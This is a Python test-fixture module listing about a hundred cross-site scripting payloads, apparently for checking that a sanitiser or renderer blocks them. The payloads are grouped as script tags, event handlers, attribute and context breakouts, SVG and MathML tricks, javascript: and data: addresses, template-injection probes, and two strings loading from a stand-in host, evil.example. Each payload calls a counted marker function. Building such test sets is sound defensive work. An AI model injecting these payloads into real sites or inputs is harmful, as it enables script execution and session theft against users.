"""A hundred texts that try to run a script wherever a page takes text for markup, code, an address or a style.

`__xss()` is what each of them calls; the browser counts the calls. They are grouped by what they try to break out of. Those
that swallow what follows (an opened comment, an unclosed attribute) stand last, so that they hide no other one.
"""

from __future__ import annotations

_IMG = "<img src=x onerror=__xss()>"

TAGS = (
    "<script>__xss()</script>",
    "<ScRiPt>__xss()</sCrIpT>",
    "<script src=data:text/javascript,__xss()></script>",
    "<script type=module>__xss()</script>",
    "<script/x>__xss()</script >",
    "<<script>__xss()//<</script>",
    "<scr<script>ipt>__xss()</scr</script>ipt>",
    "<script\x0c>__xss()</script>",
    "<noscript><p title='</noscript><img src=x onerror=__xss()>'></noscript>",
    "<iframe srcdoc='<script>parent.__xss()</script>'></iframe>",
    "<iframe src=javascript:parent.__xss()></iframe>",
    "<object data=javascript:__xss()></object>",
    "<embed src=javascript:__xss()>",
    "<base href=javascript:/a/-__xss()///>",
    "<meta http-equiv=refresh content='0;url=javascript:__xss()'>",
    "<link rel=stylesheet href=data:text/css,*{x:expression(__xss())}>",
    "<form action=javascript:__xss()><button>ok</button></form>",
    "<isindex action=javascript:__xss() type=submit>",
    "<dialog open onclose=__xss()><form method=dialog><button autofocus>x</button></form></dialog>",
    "<template><script>__xss()</script></template>",
)
HANDLERS = (
    _IMG,
    "<img/src='x'/onerror=__xss()>",
    "<img src=x:x onerror\x09=\x0a__xss()>",
    "<img src onerror='__xss`1`'>",
    '<img src="x" onerror="&#95;&#95;xss()">',
    "<body onload=__xss()>",
    "<input autofocus onfocus=__xss()>",
    "<select autofocus onfocus=__xss()><option>a</select>",
    "<textarea autofocus onfocus=__xss()>a</textarea>",
    "<details open ontoggle=__xss()>a</details>",
    "<video><source onerror=__xss()></video>",
    "<audio src onerror=__xss()></audio>",
    "<marquee onstart=__xss()>a</marquee>",
    "<p onpointerenter=__xss() onmouseover=__xss()>wide</p>",
    "<b style=animation-name:x onanimationstart=__xss()>a</b>",
    "<a href=# onclick=__xss() autofocus tabindex=1>a</a>",
    "<x onfocus=__xss() id=x tabindex=0 autofocus>a</x>",
    "<xss contenteditable oninput=__xss()>a</xss>",
    "<button popovertarget=z>a</button><p popover id=z onbeforetoggle=__xss()>b</p>",
    "<style>@keyframes x{}</style><i style='animation:x' onanimationend=__xss()>a</i>",
)
BREAKOUTS = (
    f'">{_IMG}',
    f"'>{_IMG}",
    f"`>{_IMG}",
    '" autofocus onfocus="__xss()',
    "' autofocus onfocus='__xss()",
    '" onmouseover=__xss() x="',
    '"><script>__xss()</script>',
    f"</title>{_IMG}",
    f"</textarea>{_IMG}",
    f"</option></select>{_IMG}",
    f"</script>{_IMG}",
    f"</style>{_IMG}",
    f"</noscript>{_IMG}",
    f"</template>{_IMG}",
    f"</pre></code></td></tr></table>{_IMG}",
    f"]]>{_IMG}",
    f"-->{_IMG}",
    f"--!>{_IMG}",
    '\\"};__xss();//',
    "'-__xss()-'",
    '"-__xss()-"',
    "${__xss()}",
    "`+__xss()+`",
    "\u2028__xss()\u2029",
    "*/__xss()/*",
)
SVG_AND_MATH = (
    "<svg onload=__xss()>",
    "<svg><script>__xss()</script></svg>",
    "<svg><script href=data:,__xss() /></svg>",
    "<svg><animate onbegin=__xss() attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:__xss()><text x=9 y=9>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=__xss()>#x'/></svg>",
    "<svg><foreignObject><img src=x onerror=__xss()></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=__xss()></svg>",
    f"</text></svg>{_IMG}",
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss()></style></mglyph></table></mtext></math>",
    "<math href=javascript:__xss()>a</math>",
    "<svg><style>{}</style><image href=x onerror=__xss() /></svg>",
)
ADDRESSES_AND_TEMPLATES = (
    "javascript:__xss()",
    "JaVaScRiPt:__xss()",
    "java\tscript:__xss()",
    "\x01javascript:__xss()",
    "data:text/html,<script>__xss()</script>",
    "//evil.example/x.js",
    "{{7*7}}{{constructor.constructor('__xss()')()}}",
    "{% for x in [].__class__.__mro__ %}{{x}}{% endfor %}",
    "<%= __xss() %>",
    "#{__xss()}",
    "[[__xss()]]",
    "{{'<img src=x onerror=__xss()>'|safe}}",
    "[a](javascript:__xss())",
    "expression(__xss())",
    "url(javascript:__xss());background:url(//evil.example)",
    "&lt;img src=x onerror=__xss()&gt;",
    "&#60;img src=x onerror=__xss()&#62;",
    "%3Cimg src=x onerror=__xss()%3E",
    "\uff1cimg src=x onerror=__xss()\uff1e",
    "+ADw-script+AD4-__xss()+ADw-/script+AD4-",
    "\u202e<img src=x onerror=__xss()>\u2066",
)
SWALLOWERS = (
    f"<!--{_IMG}",
    "<img title='",
)

PAYLOADS: tuple[str, ...] = (
    *TAGS, *HANDLERS, *BREAKOUTS, *SVG_AND_MATH, *ADDRESSES_AND_TEMPLATES, *SWALLOWERS,
)  # fmt: skip


def texts(parts: int) -> list[str]:
    """All payloads in some long texts, a share of them in each."""
    return [" ".join(PAYLOADS[place::parts]) for place in range(parts)]
